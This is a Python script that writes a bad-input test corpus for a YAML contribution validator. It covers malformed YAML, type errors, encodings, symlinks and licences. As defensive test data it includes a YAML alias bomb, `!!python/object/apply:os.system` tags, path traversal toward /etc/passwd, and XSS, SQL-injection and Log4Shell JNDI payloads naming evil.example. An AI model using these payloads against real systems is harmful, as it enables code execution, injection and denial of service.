"""Writes the bad-input corpus, tests/bad_inputs/<case>/, byte-exactly (BOM, Latin-1, CRLF, NUL...).

Run `python tests/bad_inputs/make_corpus.py` to regenerate every case folder from this file. Expected
positions are computed here from the text itself (`pos(text, needle)`: where the offending token is),
never copied from the validator's output. The format of expect.yaml is described in
tests/test_bad_inputs.py.
"""
import shutil
from pathlib import Path

import yaml

OUT = Path(__file__).resolve().parent
COMMIT = "0123456789abcdef0123456789abcdef01234567"
SKILL_PLACE = "compositional_skills/writing/poetry/haiku/qna.yaml"
KNOW_PLACE = "knowledge/history/maritime/lighthouses/qna.yaml"
GROUNDED_PLACE = "compositional_skills/grounded/summarization/one_line/qna.yaml"
CASES = {}

CONTEXTS = [
    "Lighthouses are towers with a bright lamp that guide ships at night.",
    "The first lighthouse of record stood at Alexandria in ancient Egypt.",
    "Fresnel lenses let a small lamp throw a beam many miles out to sea.",
    "Lighthouse keepers trimmed wicks and wound clockwork every night.",
    "Most lighthouses today are automated and need no resident keeper.",
]
HAIKU = [("rain", "Soft rain on the roof."), ("snow", "White snow on the hill."),
         ("wind", "Wind across the field."), ("sun", "Warm sun on the stone."),
         ("fog", "Grey fog in the valley.")]


def skill(n=5, header=None, seeds=None):
    header = header if header is not None else [
        "version: 3", "task_description: Write a haiku about a topic.", "created_by: tester"]
    lines = [*header, "seed_examples:"]
    for topic, answer in (seeds if seeds is not None else HAIKU[:n]):
        lines.append(f"  - question: Write a haiku about {topic}.")
        lines.append(f"    answer: {answer}")
    return "\n".join(lines) + "\n"


def know(version=3, qa=3, commit=COMMIT, patterns=("doc.md",), contexts=CONTEXTS, extra_doc=""):
    lines = [f"version: {version}", "domain: maritime history", "created_by: tester",
             "document_outline: A short history of lighthouses.", "seed_examples:"]
    for i, c in enumerate(contexts):
        lines.append(f"  - context: {c}")
        lines.append("    questions_and_answers:")
        for j in range(qa):
            lines.append(f"      - question: Question {j} about context {i}?")
            lines.append(f"        answer: Answer {j} about context {i}.")
    lines += ["document:", "  repo: https://github.com/example/docs", f"  commit: {commit}", "  patterns:"]
    lines += [f"    - {p}" for p in patterns]
    return "\n".join(lines) + "\n" + extra_doc


def pos(text, needle, nth=1):
    """1-based (line, col) where the nth occurrence of needle starts (col counts characters)."""
    index = -1
    for _ in range(nth):
        index = text.index(needle, index + 1)
    before = text[:index]
    return before.count("\n") + 1, index - (before.rfind("\n") + 1) + 1


def exp(code, at=None, text=None, nth=1, shift=0, **kw):
    """One expected finding; `at` is a needle whose position is asserted (col shifted by `shift`)."""
    e = {"code": code}
    if at is not None:
        line, col = pos(text, at, nth)
        e["line"], e["col"] = line, col + shift
    e.update(kw)
    return {k: v for k, v in e.items() if v is not None}


def case(name, description, *, content=None, place=SKILL_PLACE, expect=(), file="qna.yaml", **meta):
    assert name not in CASES, name
    spec = {"description": description, "place": place}
    files = {}
    if content is not None:
        spec["file"] = file
        files[file] = content if isinstance(content, bytes) else content.encode("utf-8")
    for key in ("generate", "attribution", "also", "forbid", "no_errors", "verbatim_questions", "bug",
                "isolate"):
        if key in meta:
            spec[key] = meta.pop(key)
    for name_, data in meta.pop("files", {}).items():
        files[name_] = data if isinstance(data, bytes) else data.encode("utf-8")
    assert not meta, meta
    spec["expect"] = list(expect)
    CASES[name] = (spec, files)


# ---------------------------------------------------------------- malformed YAML
t = skill().replace("task_description: Write a haiku about a topic.",
                    'task_description: "Write a haiku about a topic.')
case("yaml_unclosed_double_quote", "a double-quoted scalar never closed: libyaml reads to the end of the file",
     content=t, expect=[exp("TR101", message_contains="quoted scalar")])
case("yaml_unclosed_quote_position",
     "an unclosed quote should be reported where the quote opens, not past the last line of the file",
     content=t, expect=[exp("TR101", 'task_description: "', t, shift=len("task_description: "))]
)
t = skill().replace("answer: Soft rain on the roof.", "answer: 'Soft rain on the roof.")
case("yaml_unclosed_single_quote", "a single-quoted scalar never closed", content=t,
     expect=[exp("TR101", message_contains="quoted scalar")])
t = skill().replace("created_by: tester", "created_by: [tester")
case("yaml_unclosed_bracket", "a flow sequence never closed; the parser stops at the next key",
     content=t, expect=[exp("TR101", "seed_examples:", t, shift=len("seed_examples"),
                            message_contains="flow sequence")])
t = skill().replace("created_by: tester", "created_by: {name: tester")
case("yaml_unclosed_brace", "a flow mapping never closed", content=t,
     expect=[exp("TR101", "seed_examples:", t, shift=len("seed_examples"), message_contains="flow mapping")])
t = skill().replace("  - question: Write a haiku about snow.", "   - question: Write a haiku about snow.")
case("yaml_bad_indentation_seq", "a list item indented one space more than its siblings", content=t,
     expect=[exp("TR101", "   - question: Write a haiku about snow.", t, shift=3)])
t = skill().replace("created_by: tester", "  created_by: tester")
case("yaml_bad_indentation_key", "a top-level key indented under the previous scalar", content=t,
     expect=[exp("TR101", "  created_by: tester", t, shift=len("  created_by"),
                 message_contains="mapping values are not allowed")])
t = skill().replace("question: Write a haiku about snow.", "question: Write a haiku: about snow.")
case("yaml_colon_in_plain_scalar", "an unquoted question holding ': ' (a common contributor mistake)",
     content=t, expect=[exp("TR101", ": about snow", t, message_contains="mapping values")])
t = skill().replace("    answer: White snow on the hill.", "\tanswer: White snow on the hill.")
case("yaml_tab_indentation", "a tab used to indent a seed key", content=t,
     expect=[exp("TR101", "\tanswer", t, message_contains="tab")])
t = "\t" + skill()
case("yaml_tab_indentation_hint",
     "a tab before the first key: the message should say that tabs cannot indent YAML",
     content=t, expect=[exp("TR101", line=1, col=1, message_contains="use spaces")]
)
t = skill() + "---\nversion: 3\n"
case("yaml_two_documents", "two YAML documents in one qna.yaml", content=t,
     expect=[exp("TR101", "---", t, message_contains="single document")])
t = skill().replace("created_by: tester", "created_by: *nobody")
case("yaml_undefined_alias", "an alias to an anchor that does not exist", content=t,
     expect=[exp("TR101", "*nobody", t, message_contains="undefined alias")])
t = skill().replace("created_by: tester", "created_by: &me [*me]")
case("yaml_recursive_alias", "an anchor that contains an alias to itself (infinite structure)", content=t,
     expect=[{"code": ["TR101", "TR105"]}])
t = skill() + "? [a, b]\n: c\n"
case("yaml_complex_key", "a list used as a mapping key", content=t,
     expect=[exp("TR101", "[a, b]", t, shift=0, message_contains="plain text")])

# ---------------------------------------------------------------- wrong types
t = skill().replace("question: Write a haiku about snow.", "question: [Write a haiku, about snow]")
case("type_question_is_list", "a question written as a list", content=t,
     expect=[exp("TR203", "[Write a haiku", t, yaml_path=".seed_examples[1].question",
                 message_contains="expected text")])
t = skill(header=["version: 3", "task_description: Write a haiku about a topic.", "created_by: tester"],
          seeds=[]).replace("seed_examples:\n", "seed_examples: write five haiku about the weather\n")
case("type_seed_examples_string", "seed_examples given as one string", content=t,
     expect=[exp("TR203", "write five", t, yaml_path=".seed_examples", message_contains="a list")])
t = skill().replace("version: 3", "version: three")
case("type_version_word", "version written as the word 'three'", content=t,
     expect=[exp("TR203", "three", t, yaml_path=".version", message_contains="whole number")])
t = skill().replace("version: 3", 'version: "3"')
case("type_version_quoted", "version written as the string \"3\"", content=t,
     expect=[exp("TR203", '"3"', t, yaml_path=".version")])
t = skill().replace("version: 3", "version: true")
case("type_version_bool", "version: true (a bool is not an integer, although Python says it is); "
     "run in a fresh interpreter because the outcome depends on the schema cache", isolate=True,
     content=t, expect=[exp("TR203", "true", t, yaml_path=".version")]
)
t = skill().replace("version: 3", "version: .inf")
case("type_version_infinity", "version: .inf (a YAML float infinity)", content=t,
     expect=[{"code": ["TR203", "TR207"], "line": 1, "col": 10}]
)
t = skill().replace("answer: White snow on the hill.", "answer: 42")
case("type_answer_number", "an answer that YAML reads as a number", content=t,
     expect=[exp("TR203", "42", t, yaml_path=".seed_examples[1].answer", message_contains="a number")])
t = skill().replace("  - question: Write a haiku about wind.\n    answer: Wind across the field.",
                    "  - Write a haiku about wind.")
case("type_seed_is_string", "a seed example that is a bare string instead of question/answer", content=t,
     expect=[exp("TR203", "Write a haiku about wind.", t, yaml_path=".seed_examples[2]")])
t = skill().replace("created_by: tester", "created_by:")
case("type_created_by_null", "created_by with no value (YAML null)", content=t,
     expect=[exp("TR203", "created_by:", t, col=None, yaml_path=".created_by", message_contains="nothing")])
t = skill().replace("created_by: tester", "created_by: 2024-05-01")
case("type_created_by_date", "created_by that YAML reads as a date", content=t,
     expect=[exp("TR203", "2024-05-01", t, yaml_path=".created_by")]
)
t = skill().replace("answer: Wind across the field.", "answer: 2001-09-11 12:00:00")
case("type_answer_timestamp", "an answer that YAML reads as a timestamp", content=t,
     expect=[exp("TR203", "2001-09-11", t, yaml_path=".seed_examples[2].answer")]
)
t = skill().replace("created_by: tester", "created_by: !!binary dGVzdGVy")
case("type_binary_tag", "a !!binary value (bytes after loading)", content=t,
     expect=[{"code": ["TR101", "TR203"], "line": 3, "col": 13}]
)
t = skill() + "1: one\n"
case("type_integer_key", "a top-level key that YAML reads as an integer", content=t,
     expect=[{"code": ["TR101", "TR202"], **dict(zip(("line", "col"), pos(t, "1: one"), strict=True))}]
)

t = know(commit="1234567890123456789012345678901234567890")
case("type_commit_number", "an all-digit commit that YAML reads as an integer", content=t, place=KNOW_PLACE,
     expect=[exp("TR203", "1234567890", t, yaml_path=".document.commit", message_contains="expected text")])

# ---------------------------------------------------------------- missing and unknown keys
t = skill(header=["version: 3", "task_description: Write a haiku about a topic."])
case("missing_created_by", "no created_by", content=t,
     expect=[exp("TR201", line=1, col=1, message_contains="'created_by'")])
t = "version: 3\ntask_description: Write a haiku about a topic.\ncreated_by: tester\n"
case("missing_seed_examples", "no seed_examples at all", content=t,
     expect=[exp("TR201", message_contains="'seed_examples'")])
t = skill(header=["version: 3", "created_by: tester"])
case("missing_task_description", "a v3 skill without task_description", content=t,
     expect=[exp("TR201", message_contains="'task_description'")])
t = know()
t = t[:t.index("document:")]
case("knowledge_missing_document", "knowledge without a document section", content=t, place=KNOW_PLACE,
     expect=[exp("TR201", message_contains="'document'")])
t = know().replace("document_outline: A short history of lighthouses.\n", "")
case("knowledge_missing_outline", "knowledge without document_outline", content=t, place=KNOW_PLACE,
     expect=[exp("TR201", message_contains="'document_outline'")])
t = know().replace(f"  commit: {COMMIT}\n", "")
case("knowledge_document_missing_commit", "document section without commit", content=t, place=KNOW_PLACE,
     expect=[exp("TR201", "repo:", t, yaml_path=".document", message_contains="'commit'")])
t = skill(header=["version: 3", "task_description: Write a haiku about a topic.", "created_by: tester",
                  "author: someone"])
case("unknown_key_top", "an unknown top-level key", content=t,
     expect=[exp("TR202", "author:", t, yaml_path=".author", message_contains="'author'")])
t = skill().replace("    answer: White snow on the hill.", "    answer: White snow on the hill.\n    hint: cold")
case("unknown_key_in_seed", "an unknown key inside a seed example", content=t,
     expect=[exp("TR202", "hint:", t, yaml_path=".seed_examples[1].hint", message_contains="'hint'")])
t = know().replace("    questions_and_answers:", "    source: page 3\n    questions_and_answers:", 1)
case("unknown_key_in_knowledge_seed", "an unknown key beside a knowledge context", content=t,
     place=KNOW_PLACE, expect=[exp("TR202", "source:", t, message_contains="'source'")])
t = know().replace("  patterns:", "  branch: main\n  patterns:")
case("unknown_key_in_document", "an unknown key in the document section", content=t, place=KNOW_PLACE,
     expect=[exp("TR202", "branch:", t, yaml_path=".document.branch")])

# ---------------------------------------------------------------- versions
t = skill().replace("version: 3", "version: 4")
case("version_4", "a schema version from the future", content=t,
     expect=[exp("TR207", "4", t, yaml_path=".version", message_contains="4")])
t = skill().replace("version: 3", "version: 0")
case("version_0", "version zero", content=t, expect=[exp("TR207", "0", t, yaml_path=".version")])
t = skill().replace("version: 3", "version: 99999999999999999999999")
case("version_huge", "a version number beyond 64 bits", content=t,
     expect=[exp("TR207", "999", t, yaml_path=".version")])
case("knowledge_v1", "version 1 knowledge (deprecated schema)", content=know(version=1), place=KNOW_PLACE,
     expect=[exp("TR208", line=1, message_contains="not supported")])
case("knowledge_v2", "version 2 knowledge (deprecated schema)", content=know(version=2), place=KNOW_PLACE,
     expect=[exp("TR208", message_contains="not supported")])
t = know(version=2)
t = t.replace("version: 2\n", "").replace("seed_examples:\n", "version: 2\nseed_examples:\n", 1)
case("knowledge_v2_version_line", "TR208 names .version; its line should be where version is written",
     content=t, place=KNOW_PLACE, expect=[exp("TR208", "version: 2", t, shift=len("version: "),
                                            yaml_path=".version")]
)

# ---------------------------------------------------------------- file shape
case("empty_file", "a zero-byte qna.yaml", content=b"", expect=[exp("TR107", line=1, col=1)])
case("whitespace_only", "only blank lines and spaces", content=b"\n   \n\n",
     expect=[exp("TR107")])
case("only_comments", "a file holding only comments has no content", content="# TODO\n# fill in later\n",
     expect=[exp("TR107")])
case("top_level_list", "an array at the top level", content="- version: 3\n- created_by: tester\n",
     expect=[exp("TR106", message_contains="a list")])
case("top_level_scalar", "a scalar at the top level", content="just some text\n",
     expect=[exp("TR106", message_contains="single value")])

# ---------------------------------------------------------------- duplicate keys
t = skill(header=["version: 3", "created_by: tester", "task_description: Write a haiku about a topic.",
                  "created_by: mallory"])
case("duplicate_key_top", "created_by given twice at the top level", content=t,
     expect=[exp("TR102", "created_by: mallory", t, message_contains="'created_by'"),
             exp("TR102", "created_by: mallory", t, message_contains="first defined at line 2")])
t = skill().replace("    answer: White snow on the hill.",
                    "    answer: White snow on the hill.\n    answer: Cold snow on the hill.")
case("duplicate_key_nested", "answer given twice in one seed", content=t,
     expect=[exp("TR102", "answer: Cold", t, message_contains="'answer'")])
t = know().replace("  commit: ", "  repo: https://github.com/example/other\n  commit: ")
case("duplicate_key_document", "repo given twice in the document section", content=t, place=KNOW_PLACE,
     expect=[exp("TR102", "repo:", t, nth=2, message_contains="'repo'")])

# ---------------------------------------------------------------- sizes, bombs, depth
bomb = ['version: 3', 'lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
letters = "abcdefghij"
for i in range(1, 10):
    bomb.append(f"lol{i}: &{letters[i]} [" + ",".join([f"*{letters[i - 1]}"] * 10) + "]")
t = "\n".join(bomb) + "\n"
case("yaml_bomb", "billion laughs: 10 levels of 10 aliases (10^10 nodes from a 1 KB file)", content=t,
     expect=[exp("TR105", message_contains="aliases expand")])
case("file_5mb", "a 5 MiB qna.yaml (generated)", generate="big_file",
     expect=[exp("TR104", message_contains="5,242,880 bytes")])
t = "[" * 10_000 + "]" * 10_000 + "\n"
case("deep_nesting_10k", "10,000 nested flow lists", content=t, expect=[exp("TR101", message_contains="nest")])
case("deep_nesting_30k", "30,000 nested flow lists (60 KB, far below the size limit; generated)",
     generate="deep_nesting_30k", isolate=True, expect=[exp("TR101")]
)

# ---------------------------------------------------------------- encoding and layout
s = skill()
data = s.replace("created_by: tester", "created_by: tes\x00ter").encode()
case("binary_nul_byte", "a NUL byte inside created_by", content=data,
     expect=[exp("TR103", "\x00", s.replace("tester", "tes\x00ter"), message_contains="#x0000")])
data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01" + bytes(range(256))
case("binary_png", "a PNG image saved as qna.yaml", content=data,
     expect=[exp("TR103", line=1, col=1, message_contains="0x89")])
t = s.replace("created_by: tester", "created_by: tes\x07ter")
case("control_character", "a BEL control character in created_by", content=t,
     expect=[exp("TR103", "\x07", t)])
case("utf8_bom", "a UTF-8 byte order mark; the rest is valid", content=b"\xef\xbb\xbf" + s.encode(),
     expect=[exp("TR110", line=1, col=1, severity="warning")], no_errors=True)
case("utf16_file", "the file saved as UTF-16", content=s.encode("utf-16"),
     expect=[exp("TR103", line=1, col=1, message_contains="0xff")])
t = s.replace("created_by: tester", "created_by: José")
case("latin1_bytes", "Latin-1 é in created_by", content=t.encode("latin-1"),
     expect=[exp("TR103", "é", t, message_contains="0xe9")])
t = s.replace("answer: Warm sun on the stone.", "answer: “Warm” sun on the stone.")
case("cp1252_quotes", "Windows-1252 curly quotes in an answer", content=t.encode("cp1252"),
     expect=[exp("TR103", "“", t, message_contains="0x93")])
t = s.replace("created_by: tester", "created_by: tes\udfffter")
raw = s.replace("created_by: tester", "created_by: tesXter").encode().replace(b"X", b"\xed\xbf\xbf")
case("utf8_surrogate", "a UTF-8-encoded surrogate (invalid UTF-8)", content=raw,
     expect=[exp("TR103", "\udfff", t, message_contains="0xed")])
case("crlf_line_endings", "CRLF line endings throughout", content=s.replace("\n", "\r\n").encode(),
     expect=[exp("TR153", line=1)], forbid=["TR151"])
t = s.replace("    answer: Wind across the field.\n", "    answer: Wind across the field.\r\n")
case("crlf_one_line", "one CRLF line in an LF file", content=t.encode(),
     expect=[exp("TR153", line=pos(t, "Wind across")[0])])
t = s.replace("created_by: tester", "created_by: tester   ")
case("trailing_spaces", "three spaces after created_by's value", content=t,
     expect=[exp("TR151", "   \n", t)])
t = s.replace("answer: White snow on the hill.", "answer: White snow on the hill.\t")
case("trailing_tab", "a tab after an answer", content=t, expect=[exp("TR151", "\t\n", t)])
t = s.rstrip("\n")
case("no_final_newline", "the last line has no newline", content=t,
     expect=[exp("TR152", line=t.count("\n") + 1)])

# ---------------------------------------------------------------- links, names, file types
case("symlink_to_etc_hostname", "qna.yaml is a symbolic link to /etc/hostname (generated)",
     generate="symlink_etc", expect=[exp("TR108", message_contains="/etc/hostname")])
case("symlink_outside_root", "qna.yaml links to a valid qna.yaml outside the taxonomy (generated)",
     generate="symlink_outside_file", expect=[exp("TR108", message_contains="leaves the taxonomy root")])
case("symlink_dir_outside_root", "the leaf folder links to a folder outside the taxonomy (generated)",
     generate="symlink_outside_dir",
     expect=[exp("TR108", path="compositional_skills/writing/poetry/haiku")])
case("symlink_attribution_outside", "attribution.txt links to a file outside the root (generated); "
     "the link is reported as 'not followed' so its content must not be read",
     generate="symlink_attribution", attribution="none", content=s,
     expect=[exp("TR108", path="compositional_skills/writing/poetry/haiku/attribution.txt")],
     forbid=["TR304"]
)
case("symlink_dangling", "qna.yaml is a link to a file that does not exist (generated)",
     generate="dangling_link", expect=[exp("TR111", message_contains="No such file")])
case("fifo_as_qna", "qna.yaml is a named pipe (generated); reading it would block forever",
     generate="fifo", expect=[exp("TR111")]
)
case("wrong_name_qna_yml", "qna.yml instead of qna.yaml", content=s, file="qna.yml",
     place="compositional_skills/writing/poetry/haiku/qna.yml",
     expect=[exp("TR109", severity="warning", message_contains="qna.yml")])
case("wrong_name_capitalised", "Qna.yaml instead of qna.yaml", content=s, file="Qna.yaml",
     place="compositional_skills/writing/poetry/haiku/Qna.yaml",
     expect=[exp("TR109", severity="warning")])

# ---------------------------------------------------------------- documents
t = know(patterns=("../../../../etc/passwd.md",))
case("pattern_dotdot", "a document pattern climbing out of the repository", content=t, place=KNOW_PLACE,
     expect=[exp("TR502", "../../", t, col=None, yaml_path=".document.patterns[0]")])
t = know(patterns=("/etc/doc.md",))
case("pattern_absolute", "an absolute document pattern", content=t, place=KNOW_PLACE,
     expect=[exp("TR502", "/etc/doc.md", t, col=None, message_contains="/etc/doc.md")])
t = know(patterns=("doc.md", "docs/../../secret.md"))
case("pattern_dotdot_inner", "'..' in the middle of the second pattern", content=t, place=KNOW_PLACE,
     expect=[exp("TR502", "docs/../", t, col=None, yaml_path=".document.patterns[1]")])
MISSING = "feedfacefeedfacefeedfacefeedfacefeedface"
t = know(commit=MISSING)
case("document_missing_in_cache", "the document commit is not in the local cache", content=t,
     place=KNOW_PLACE,
     expect=[exp("TR501", message_contains=f"_documents/github.com/example/docs/{MISSING}"),
             exp("TR501", message_contains="taxreg documents fetch")])
case("document_missing_line", "TR501 should point at the `document:` key (DocumentRef.line's contract)",
     content=t, place=KNOW_PLACE, expect=[exp("TR501", "document:", t, yaml_path=".document")]
)
t = know(patterns=("chapters/*.md",))
case("pattern_no_match", "a pattern that matches nothing in the cached commit", content=t, place=KNOW_PLACE,
     expect=[exp("TR503", "chapters/*.md", t, col=None, message_contains="chapters/*.md")])
t = know(patterns=("doc.txt",))
case("pattern_wrong_type", "a pattern naming a .txt file (only .md and .pdf count)", content=t,
     place=KNOW_PLACE, expect=[exp("TR503", "doc.txt", t, col=None)],
     files={"doc.txt": "Lighthouses\n"},
     also=[{"file": "doc.txt", "place": f"_documents/github.com/example/docs/{COMMIT}/doc.txt"}])
ctx = list(CONTEXTS)
ctx[2] = "Lighthouses were painted in stripes so sailors could recognise them by day."
t = know(contexts=ctx)
case("context_not_in_document", "a knowledge context that the document does not contain", content=t,
     place=KNOW_PLACE, expect=[exp("TR504", "Lighthouses were painted", t, col=None, severity="warning")],
     no_errors=True)
LATIN_COMMIT = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
case("document_not_utf8", "the matched markdown document is Latin-1", content=know(commit=LATIN_COMMIT),
     place=KNOW_PLACE, files={"doc.md": "# Phares\n\nLe phare é\n".encode("latin-1")},
     also=[{"file": "doc.md", "place": f"_documents/github.com/example/docs/{LATIN_COMMIT}/doc.md"}],
     expect=[exp("TR505", message_contains="not UTF-8")])

# ---------------------------------------------------------------- list rules
case("too_few_seeds", "four seed examples (five are required)", content=skill(n=4),
     expect=[exp("TR204", "seed_examples:", skill(n=4), yaml_path=".seed_examples",
                 message_contains="at least 5")])
t = know(qa=2)
case("knowledge_two_qa", "a knowledge context with only two Q&A pairs", content=t, place=KNOW_PLACE,
     expect=[exp("TR204", "questions_and_answers:", t, yaml_path=".seed_examples[0].questions_and_answers",
                 message_contains="at least 3")])
t = know(patterns=()).replace("  patterns:\n", "  patterns: []\n")
case("patterns_empty", "document.patterns is an empty list", content=t, place=KNOW_PLACE,
     expect=[exp("TR204", "patterns:", t, yaml_path=".document.patterns")])
t = skill(seeds=[*HAIKU[:3], HAIKU[1], HAIKU[4]])
case("duplicate_seed", "the same seed example twice", content=t,
     expect=[exp("TR205", "  - question: Write a haiku about snow.", t, nth=2, shift=4,
                 yaml_path=".seed_examples[3]", message_contains="Write a haiku about snow.")])
t = know().replace("      - question: Question 1 about context 0?\n        answer: Answer 1 about context 0.",
                   "      - question: Question 0 about context 0?\n        answer: Answer 0 about context 0.")
case("duplicate_qa_pair", "a repeated Q&A pair under one context", content=t, place=KNOW_PLACE,
     expect=[exp("TR205", "question: Question 0 about context 0?", t, nth=2,
                 yaml_path=".seed_examples[0].questions_and_answers[1]",
                 message_contains="Question 0 about context 0?")])
t = know(patterns=("doc.md", "doc.md"))
case("duplicate_pattern", "the same document pattern twice", content=t, place=KNOW_PLACE,
     expect=[exp("TR205", "doc.md", t, nth=2, message_contains="doc.md")])
t = skill().replace("question: Write a haiku about wind.", 'question: ""')
case("empty_question", "an empty-string question", content=t,
     expect=[exp("TR206", '""', t, yaml_path=".seed_examples[2].question")])
t = skill().replace("created_by: tester", 'created_by: ""')
case("created_by_empty", "created_by is an empty string", content=t,
     expect=[exp("TR206", '""', t, yaml_path=".created_by")])
t = skill(seeds=[*HAIKU[:4], ("Rain", "Soft rain on the roof, again.")])
case("repeated_question_in_leaf", "the same question twice in a leaf, differing only in case",
     content=t, expect=[exp("TR405", "Write a haiku about Rain.", t, col=None, severity="warning",
                            message_contains=f"line {pos(t, 'Write a haiku about rain.')[0]}")],
     no_errors=True)

# ---------------------------------------------------------------- YAML tags
t = skill().replace("answer: Soft rain on the roof.",
                    'answer: !!python/object/apply:os.system "touch tr_pwned_marker"')
case("python_tag_scalar", "a !!python/object/apply tag on a scalar: must not execute", content=t,
     expect=[exp("TR101", "!!python", t, message_contains="python/object/apply")])
t = skill().replace("answer: Soft rain on the roof.",
                    'answer: !!python/object/apply:os.system ["touch tr_pwned_marker"]')
case("python_tag_sequence", "a !!python/object/apply tag on a sequence: must not execute", content=t,
     expect=[{"code": ["TR101", "TR203"], **dict(zip(("line", "col"), pos(t, "!!python"), strict=True))}])
t = skill().replace("  - question: Write a haiku about rain.\n    answer: Soft rain on the roof.",
                    "  - !!python/object:builtins.dict\n    question: Write a haiku about rain.\n"
                    "    answer: Soft rain on the roof.")
case("python_tag_mapping", "a !!python/object tag on a seed mapping: a safe loader refuses it", content=t,
     expect=[exp("TR101", "!!python", t, message_contains="python/object")])
t = skill().replace("answer: Soft rain on the roof.", "answer: !custom Soft rain on the roof.")
case("custom_tag_scalar", "an application-specific tag (!custom) on a scalar", content=t,
     expect=[exp("TR101", "!custom", t, message_contains="!custom")])

# ---------------------------------------------------------------- attribution
case("attribution_missing", "no attribution.txt beside qna.yaml", content=s, attribution="none",
     expect=[exp("TR301", message_contains="attribution.txt")])
case("attribution_missing_foundational", "foundational skill without attribution.txt (warning only)",
     content=s, attribution="none", place="foundational_skills/reasoning/common_sense/qna.yaml",
     expect=[exp("TR306", severity="warning")], no_errors=True)
ATTR_PLACE = "compositional_skills/writing/poetry/haiku/attribution.txt"
a = "Title of work: Test\nLink to work: -\nRevision: N/A\nCreator names: Tester\n"
case("attribution_no_license", "attribution.txt without a license line", content=s,
     attribution="attribution.txt", files={"attribution.txt": a},
     expect=[exp("TR302", path=ATTR_PLACE, line=1, message_contains="license")])
a = "Title of work: Test\nLink to work: -\nRevision: N/A\nLicense of the work: Public Domain\nCreator names: Tester\n"
case("license_public_domain", "'Public Domain' is not an SPDX identifier", content=s,
     attribution="attribution.txt", files={"attribution.txt": a},
     expect=[exp("TR303", path=ATTR_PLACE, line=4, message_contains="Public Domain")])
a = a.replace("Public Domain", "Foo License")
case("license_unknown", "'Foo License' is not an SPDX identifier", content=s, attribution="attribution.txt",
     files={"attribution.txt": a}, expect=[exp("TR303", path=ATTR_PLACE, line=4, message_contains="Foo")])
a = a.replace("Foo License", "CC BY-NC-SA 4.0")
case("license_not_allowed", "CC BY-NC-SA 4.0 is valid SPDX but not allowed", content=s,
     attribution="attribution.txt", files={"attribution.txt": a},
     expect=[exp("TR304", path=ATTR_PLACE, line=4, message_contains="CC-BY-NC-SA-4.0")])
case("attribution_empty", "an empty attribution.txt", content=s, attribution="attribution.txt",
     files={"attribution.txt": b""}, expect=[exp("TR302", path=ATTR_PLACE, message_contains="empty")])
a = (b"Title of work: Test\nLink to work: -\nRevision: N/A\nLicense of the work: CC-BY-4.0\n"
     b"Creator names: Tester\n\n-- see the wiki --\nLicense of the work: MIT\n")
case("attribution_garbage_line", "an unrecognised line opening a second block", content=s,
     attribution="attribution.txt", files={"attribution.txt": a},
     expect=[exp("TR302", path=ATTR_PLACE, line=7, message_contains="unrecognised line")])
a = "Title of work: Caf\xe9\nLicense of the work: CC-BY-4.0\nCreator names: Tester\n".encode("latin-1")
case("attribution_latin1", "attribution.txt in Latin-1", content=s, attribution="attribution.txt",
     files={"attribution.txt": a}, expect=[exp("TR302", path=ATTR_PLACE, message_contains="UTF-8")])

# ---------------------------------------------------------------- content guidance
def words(n, stem):
    return " ".join(f"{stem}{i}" for i in range(n))


ctx = words(510, "tide")
t = ("version: 3\ntask_description: Summarise a passage in one line.\ncreated_by: tester\nseed_examples:\n"
     f"  - context: {ctx}\n    question: Summarise the passage.\n    answer: It lists tides.\n"
     + "".join(f"  - context: Short passage {i}.\n    question: Summarise passage {i}.\n"
               f"    answer: Passage {i} is short.\n" for i in range(4)))
case("context_over_500_words", "a 510-word context in a grounded skill", content=t, place=GROUNDED_PLACE,
     expect=[exp("TR401", "tide0", t, col=None, severity="warning", message_contains="510 words")],
     no_errors=True)
t = skill(seeds=[*HAIKU[:4], ("hail", words(260, "ice"))])
case("qa_over_250_words", "a Q/A pair of 265 words", content=t,
     expect=[exp("TR402", "Write a haiku about hail.", t, col=None, severity="warning",
                 message_contains="265 words")], no_errors=True)
t = skill(seeds=[(f"topic {i}", words(240, f"w{i}x")) for i in range(10)])
case("leaf_over_2300_words", "ten seeds of ~245 words: the leaf is over 2,300 words", content=t,
     expect=[exp("TR403", severity="warning", message_contains="2,300")], no_errors=True,
     forbid=["TR402"])
ta = skill(seeds=[("the sea", "Grey sea under clouds."), *HAIKU[1:]]).replace(
    "Write a haiku about the sea.", "Which ocean is the largest on Earth?")
tb = skill(seeds=[*HAIKU[:2], ("the sea", "The Pacific is largest."), *HAIKU[3:]]).replace(
    "Write a haiku about the sea.", "Which ocean is the largest on Earth?")
case("same_question_two_leaves", "two leaves asking the same question (TR404 on the later one)",
     content=ta, place="compositional_skills/trivia/oceans_a/qna.yaml", files={"other.yaml": tb},
     also=[{"file": "other.yaml", "place": "compositional_skills/trivia/oceans_b/qna.yaml"}],
     expect=[exp("TR404", "Which ocean", tb, col=None, severity="warning",
                 path="compositional_skills/trivia/oceans_b/qna.yaml",
                 message_contains="trivia/oceans_a/qna.yaml")])

# ---------------------------------------------------------------- hostile text in a VALID file
PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}",
            "'; DROP TABLE contribution; --", "${jndi:ldap://evil.example/a}"]
lines = ["version: 3", "task_description: Answer <b>politely</b> {% raw %} & safely.",
         "created_by: \"<svg onload=alert('x')>\"", "seed_examples:"]
for p in PAYLOADS:
    lines.append(f"  - question: {yaml.safe_dump(p, default_style=chr(34)).strip()}")
    lines.append(f"    answer: {yaml.safe_dump('Echo: ' + p, default_style=chr(34)).strip()}")
t = "\n".join(lines) + "\n"
assert [d["question"] for d in yaml.safe_load(t)["seed_examples"]] == PAYLOADS
case("payloads_in_valid_file", "HTML/script/template/SQL payloads in a valid skill: no errors, text "
     "kept verbatim", content=t, expect=[], no_errors=True, verbatim_questions=PAYLOADS)
UNI = ["¿Qué es la lluvia? 雨とは何ですか？", "مرحبا\u200f — what does this mean?",
       "Zero\u200bwidth and combining e\u0301?", "Emoji 🌧️ haiku, please.", "Line\u2028separator?"]
lines = ["version: 3", "task_description: Answer questions in many scripts.", "created_by: tëster",
         "seed_examples:"]
for i, q in enumerate(UNI):
    lines.append(f"  - question: {yaml.safe_dump(q, default_style=chr(34), allow_unicode=True).strip()}")
    lines.append(f"    answer: Answer {i}.")
t = "\n".join(lines) + "\n"
assert [d["question"] for d in yaml.safe_load(t)["seed_examples"]] == UNI
